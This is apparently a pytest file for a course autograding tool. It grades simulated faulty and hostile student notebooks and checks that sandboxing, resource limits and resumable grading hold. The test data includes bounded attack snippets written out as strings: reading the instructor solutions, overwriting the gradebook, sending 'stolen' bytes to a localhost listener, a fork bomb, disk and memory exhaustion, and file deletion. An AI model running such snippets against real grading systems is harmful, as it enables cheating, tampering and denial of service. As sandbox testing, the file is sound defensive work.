"""Grading faults: hostile and broken submissions, and grading killed halfway.

One batch of submissions of ``FAULTY`` is graded by ``course-grade grade`` (one
``nbgrader autograde --student`` process per submission, under a memory limit), the way
docs/instructors.md tells instructors to grade. Two students behave; the others

================  =========================================================================
``sys_exit``      calls ``sys.exit(1)`` after a right answer
``os_exit``       calls ``os._exit(1)`` in an answer: the kernel dies
``prints``        prints 200,000 lines and a 5 MB line after a right answer
``memory_hog``    allocates memory until it fails, in the last answer (bounded at 6 GiB;
                  the limit is 3 GiB)
``deletes_files`` deletes every file in its working directory and writes its own
``rebinds``       answers task 1 wrongly and points the reference at its own answer
                  (``sentiment_lib.data.<reference> = mine``), and rebinds ``np`` and
                  ``grading`` at the end of the last answer
``not_json``      a notebook file that is not JSON
================  =========================================================================

and six hostile learners, graded in the sandbox (``course-grade grade``'s default, bubblewrap):

==================  =======================================================================
``peeks``           task 1's answer reads the instructor notebook in ``solutions/`` and runs
                    its solution (would get task 1's points if it could read it)
``copies``          task 1's answer lists ``submitted/`` and runs another learner's answer
``tampers``         task 1's answer overwrites ``gradebook.db``, the instructor and released
                    notebooks and another learner's submission
``phones_home``     task 1's answer connects to a TCP port this test listens on (localhost)
``fork_bomb``       after a right answer: forks until it cannot (at most 2,000 processes), then
                    waits for its children
``fills_disk``      after a right answer: writes a file until the disk is full (at most 4 GiB)
==================  =======================================================================

Each is stopped: the first four lose task 1's points and nothing else (the code deserves no
more), the last two keep full marks and their graded notebook shows the error that stopped
them; no connection reached the port, no instructor file changed, the other learners are
graded normally.

Checked: the well-behaved students get exactly their scores; each misbehaving one gets its
exact score (computed from ``points.json``; the memory hog at least the points of the tests
that ran before it) or an ``error`` status with the reason; the
instructor's files (solutions, config, the released notebooks, the other students'
submissions) have the same checksums before and after.

Then grading is killed (SIGKILL to the wrapper and its nbgrader) as soon as the first student
is done, and run again: every student has one grade per test cell, and the exported CSV
equals the one of the uninterrupted batch.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from course_grading.simulated import course as C
from course_grading.simulated import students as S

pytestmark = pytest.mark.slow

FAULTY = "01_data"
GRADE = [sys.executable, "-m", "course_grading", "grade"]  # course-grade grade
MEMORY_GB = 3  # the kernel needs about 2.3 GiB of address space after its imports
GOOD = ["a_full", "z_partial"]

HOG = '''
def _hog():
    chunks = []
    for _ in range(96):  # at most 96 x 64 MiB = 6 GiB, even if no limit were set
        chunks.append(np.ones(8 * 2**20))  # 64 MiB, written to (really allocated)
    return len(chunks)


_hog()  # raises MemoryError at the grader's limit; the list is freed with the frame
'''


HOSTILE_FIRST = ["peeks", "copies", "tampers", "phones_home"]  # task 1's answer is the attack
DISK_GB = 0.25  # the sandbox's in-memory disk for the kernel, small for a quick test


def _hostile(course, inst, full, sol, port):
    """The six hostile learners: {name: (notebook, the answer cells that deserve points)}."""
    first = inst.cells[S.cell_index(inst, sol[0])].source
    root = str(course)
    peeks = (
        "import json\n"
        f"nb = json.load(open({root!r} + '/solutions/01_data/01_data.ipynb'))\n"
        f"exec(''.join(next(c['source'] for c in nb['cells'] if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {sol[0]!r})))\n"
    )
    copies = (
        "import os, json\n"
        f"others = os.listdir({root!r} + '/submitted')\n"
        f"nb = json.load(open({root!r} + '/submitted/a_full/01_data/01_data.ipynb'))\n"
        f"exec(''.join(next(c['source'] for c in nb['cells'] if c['metadata'].get('nbgrader', {{}}).get('grade_id') == {sol[0]!r})))\n"
    )
    tampers = "failures = []\n" + "".join(
        f"try:\n    open({root!r} + {rel!r}, 'w').write('tampered')\nexcept OSError as e:\n    failures.append(repr(e))\n"
        for rel in ["/gradebook.db", "/solutions/01_data/01_data.ipynb", "/exercises/01_data/01_data.ipynb",
                    "/submitted/a_full/01_data/01_data.ipynb", "/nbgrader_config.py"]
    ) + "print(failures)\nassert len(failures) == 5, 'some file was writable'\n"
    phones = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
        "s.sendall(b'stolen')\n"
    )
    bomb = (
        "import os, time\nchildren = []\n"
        "try:\n"
        "    for _ in range(2000):  # bounded, in case nothing stops it\n"
        "        pid = os.fork()\n"
        "        if pid == 0:\n"
        "            time.sleep(2)\n"
        "            os._exit(0)\n"
        "        children.append(pid)\n"
        "finally:  # let them end, so that the tests below can start their threads\n"
        "    for pid in children:\n"
        "        os.waitpid(pid, 0)\n"
        "    print('forked', len(children), 'processes')\n"
    )
    fill = (
        "with open('filler.bin', 'wb') as f:\n"
        "    for _ in range(4096):  # at most 4 GiB, in case nothing stops it\n"
        "        f.write(b'x' * 2**20)\n"
    )
    return {
        "peeks": (S.with_answer(full, sol[0], peeks), sol[1:]),
        "copies": (S.with_answer(full, sol[0], copies), sol[1:]),
        "tampers": (S.with_answer(full, sol[0], tampers), sol[1:]),
        "phones_home": (S.with_answer(full, sol[0], phones), sol[1:]),
        "fork_bomb": (S.append_to_answer(full, sol[0], bomb), sol),
        "fills_disk": (S.append_to_answer(full, sol[0], fill), sol),
    }


class _Listener:
    """A TCP server on localhost that records whoever connects."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, addr = self.server.accept()
            except OSError:
                return
            self.connections.append(addr)
            conn.close()


def _submissions(course, port=0):
    inst = S.read(course / "solutions" / FAULTY / f"{FAULTY}.ipynb")
    rel = S.read(course / "exercises" / FAULTY / f"{FAULTY}.ipynb")
    sol = S.solution_ids(inst)
    full = S.answered(rel, inst)
    own = S.owners(inst)
    # the reference each test of task 1 imports: `from sentiment_lib.data import X as reference`
    first_test = inst.cells[S.cell_index(inst, next(t for t, o in own.items() if o == sol[0]))].source
    ref_name = first_test.split("from sentiment_lib.data import ", 1)[1].split(" as reference", 1)[0]
    wrong = (
        f"def {sol[0]}(*args, **kwargs):  # wrong: returns its input\n    return args[0]\n\n"
        f"import sentiment_lib.data\nsentiment_lib.data.{ref_name} = {sol[0]}  # make the reference agree\n"
        f"reference = {sol[0]}\n"
    )
    rebinds = S.append_to_answer(S.with_answer(full, sol[0], wrong), sol[-1], "np = None\ngrading = None\n")
    subs = {
        "a_full": (full, sol),
        "z_partial": (S.answered(rel, inst, sol[:-1]), sol[:-1]),
        "sys_exit": (S.append_to_answer(full, sol[0], "import sys\nsys.exit(1)"), sol),
        "os_exit": (S.append_to_answer(full, sol[1], "import os\nos._exit(1)"), None),
        "prints": (S.append_to_answer(full, sol[0], "for i in range(200_000):\n    print(i)\nprint('x' * 5_000_000)"), sol),
        "memory_hog": (S.append_to_answer(full, sol[-1], HOG), None),  # bounds checked below
        "deletes_files": (
            S.append_to_answer(
                full, sol[0],
                "import os\nfor name in os.listdir('.'):\n    if os.path.isfile(name):\n        os.remove(name)\n"
                f"open('{FAULTY}.ipynb', 'w').write('{{}}')\nopen('timestamp.txt', 'w').write('1999-01-01 00:00:00')\n",
            ),
            sol,
        ),
        "rebinds": (rebinds, sol[1:-1]),
    }
    subs.update(_hostile(course, inst, full, sol, port))
    return inst, subs


def _autograde(course, *args, wait=True):
    cmd = [*GRADE, FAULTY, "--memory-gb", str(MEMORY_GB), "--disk-gb", str(DISK_GB), *args]
    if not wait:
        return subprocess.Popen(cmd, cwd=course, env=C.course_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                text=True, start_new_session=True)
    return subprocess.run(cmd, cwd=course, env=C.course_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                          text=True, timeout=900)


def _children_cpu():
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def _status(course, student):
    path = course / ".autograde" / FAULTY / f"{student}.json"
    return json.loads(path.read_text()) if path.is_file() else None


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    course = C.make_course(tmp_path_factory.mktemp("faults"), [FAULTY])
    points = S.load_points(course)[FAULTY]
    C.nbgrader(course, "generate_assignment", FAULTY, "--force")
    listener = _Listener()
    inst, subs = _submissions(course, listener.port)
    expected = {}
    for name, (nb, right) in subs.items():
        S.submit(course, name, FAULTY, nb)
        if right is not None:
            expected[name] = S.expected_score(inst, right, points)
    # the tests that ran before the memory hog; the later ones run in a kernel at its limit
    # (IPython keeps the MemoryError's traceback, and with it the memory), so they may fail
    hog_floor = S.expected_score(inst, S.solution_ids(inst)[:-1], points)
    S.submit(course, "not_json", FAULTY, raw='{"cells": [ {"cell_type": "code", "source": "print(1)"')
    protected = [course / "solutions", course / "nbgrader_config.py", course / "exercises", course / "submitted"]
    before = C.checksums(protected)
    start, cpu = time.monotonic(), _children_cpu()
    proc = _autograde(course, "--jobs", "2")
    seconds, cpu = time.monotonic() - start, _children_cpu() - cpu
    listener.server.close()
    print(f"\nfaults batch ({len(subs) + 1} submissions): {seconds:.1f} s wall, {cpu:.1f} s CPU\n{proc.stdout}")
    C.nbgrader(course, "export", "--to", "grades.csv")
    return {
        "course": course, "points": points, "expected": expected, "proc": proc, "before": before,
        "after": C.checksums(protected), "scores": C.scores(course), "seconds": seconds, "hog_floor": hog_floor,
        "connections": listener.connections,
    }


def test_well_behaved_and_hostile_students_get_their_exact_scores(batch):
    got = {s: batch["scores"][(FAULTY, s)]["score"] for s in batch["expected"]}
    assert got == pytest.approx(batch["expected"]), batch["proc"].stdout
    full = sum(batch["points"].values())
    assert batch["expected"]["a_full"] == full and batch["expected"]["z_partial"] < full
    for s in batch["expected"]:
        assert _status(batch["course"], s)["status"] == "ok", s
        assert None not in batch["scores"][(FAULTY, s)]["grades"].values(), s


def test_broken_submissions_get_a_clear_recorded_error(batch):
    out = batch["proc"].stdout
    assert batch["proc"].returncode == 1, out  # the wrapper says not everything was graded
    dead = _status(batch["course"], "os_exit")
    assert dead["status"] == "error" and "died" in dead["reason"].lower(), dead
    broken = _status(batch["course"], "not_json")
    assert broken["status"] == "error" and "json" in broken["reason"].lower(), broken
    for s in ("os_exit", "not_json"):
        assert f"NOT GRADED: {FAULTY} {s}" in out
        # nothing half-graded is left: no autograded notebook, no points
        assert not (batch["course"] / "autograded" / s / FAULTY / f"{FAULTY}.ipynb").exists()
        assert not any(batch["scores"][(FAULTY, s)]["grades"].values())


def test_what_each_fault_left_in_the_graded_notebook(batch):
    def graded(s):
        return (batch["course"] / "autograded" / s / FAULTY / f"{FAULTY}.ipynb").read_text(encoding="utf-8")

    assert "SystemExit" in graded("sys_exit")
    assert "MemoryError" in graded("memory_hog")
    assert _status(batch["course"], "memory_hog")["status"] == "ok"
    hog = batch["scores"][(FAULTY, "memory_hog")]
    assert None not in hog["grades"].values()
    assert batch["hog_floor"] <= hog["score"] <= sum(batch["points"].values())
    rebinds = graded("rebinds")
    assert "UsedReferenceError" in rebinds or "AssertionError" in rebinds
    printed = S.read(batch["course"] / "autograded" / "prints" / FAULTY / f"{FAULTY}.ipynb")
    streams = [o for c in printed.cells if c.cell_type == "code" for o in c.outputs if o.output_type == "stream"]
    assert max(len(o.text.splitlines()) for o in streams) <= 1000  # nbgrader's LimitOutput keeps 1000 lines
    # the graded copy was written after the kernel had emptied the folder
    assert S.read(batch["course"] / "autograded" / "deletes_files" / FAULTY / f"{FAULTY}.ipynb").cells


def test_instructor_files_untouched(batch):
    assert batch["after"] == batch["before"]


def test_grading_killed_halfway_then_resumed(batch, tmp_path_factory):
    """SIGKILL as soon as the first student is graded, run again, compare with the batch."""
    course = C.make_course(tmp_path_factory.mktemp("killed"), [FAULTY])
    C.nbgrader(course, "generate_assignment", FAULTY, "--force")
    for s in GOOD:  # the same submissions as in the uninterrupted batch
        src = batch["course"] / "submitted" / s / FAULTY
        for f in src.iterdir():
            (course / "submitted" / s / FAULTY).mkdir(parents=True, exist_ok=True)
            (course / "submitted" / s / FAULTY / f.name).write_bytes(f.read_bytes())

    import psutil

    proc = _autograde(course, "--jobs", "1", wait=False)
    deadline = time.monotonic() + 600
    while (_status(course, GOOD[0]) or {}).get("status") != "ok":
        assert proc.poll() is None, proc.stdout.read()
        assert time.monotonic() < deadline, "the first student took too long"
        time.sleep(0.2)
    family = psutil.Process(proc.pid).children(recursive=True)
    os.killpg(proc.pid, signal.SIGKILL)  # the wrapper and nbgrader; the kernel has its own session
    for p in family:
        try:
            p.kill()
        except psutil.NoSuchProcess:
            pass
    proc.wait()
    assert _status(course, GOOD[1]) is None  # the second student was being graded

    rerun = _autograde(course, "--jobs", "1")
    assert rerun.returncode == 0, rerun.stdout
    assert f"{FAULTY} {GOOD[0]}: already graded, skipped" in rerun.stdout
    scores = C.scores(course)
    assert sorted(scores) == [(FAULTY, s) for s in GOOD]
    for s in GOOD:
        assert scores[(FAULTY, s)]["score"] == pytest.approx(batch["expected"][s])
        assert scores[(FAULTY, s)]["n_grades"] == len(batch["points"])

    C.nbgrader(course, "export", "--to", "grades.csv")
    resumed = C.read_csv(course / "grades.csv")
    uninterrupted = [r for r in C.read_csv(batch["course"] / "grades.csv") if r["student_id"] in GOOD]
    assert resumed == uninterrupted


def _graded_text(batch, s):
    return (batch["course"] / "autograded" / s / FAULTY / f"{FAULTY}.ipynb").read_text(encoding="utf-8")


def test_hostile_learners_are_stopped_and_graded_for_their_own_work(batch):
    """Each attack fails inside the sandbox; the learner gets exactly what the code deserves."""
    for s in HOSTILE_FIRST + ["fork_bomb", "fills_disk"]:
        assert _status(batch["course"], s)["status"] == "ok", (s, batch["proc"].stdout)
        assert batch["scores"][(FAULTY, s)]["score"] == pytest.approx(batch["expected"][s]), s
    full = sum(batch["points"].values())
    assert batch["expected"]["fork_bomb"] == full and batch["expected"]["peeks"] < full
    assert "FileNotFoundError" in _graded_text(batch, "peeks")  # solutions/ is not there at all
    assert "FileNotFoundError" in _graded_text(batch, "copies")  # nor submitted/
    tampers = _graded_text(batch, "tampers")
    assert '"evalue": "some file was writable"' not in tampers  # every write failed ...
    assert "PermissionError" in tampers or "Read-only" in tampers  # ... and the failures were printed
    phoned = _graded_text(batch, "phones_home")  # its own loopback only: nothing listens there
    assert "ConnectionRefusedError" in phoned or "Network is unreachable" in phoned
    assert batch["connections"] == []
    bomb = _graded_text(batch, "fork_bomb")
    assert "BlockingIOError" in bomb  # fork() refused at the process limit (--max-procs, 256)
    assert int(bomb.split("forked ", 1)[1].split(" processes", 1)[0]) < 256
    assert "No space left on device" in _graded_text(batch, "fills_disk")
    # what the kernel wrote stayed in its sandbox: nothing big in the course folder
    assert not list(batch["course"].rglob("filler.bin"))


def test_gradebook_survives_the_tampering(batch):
    assert (batch["course"] / "gradebook.db").read_bytes()[:16] == b"SQLite format 3\x00"
    assert len(batch["scores"]) == len(batch["expected"]) + 3  # os_exit, not_json, memory_hog too
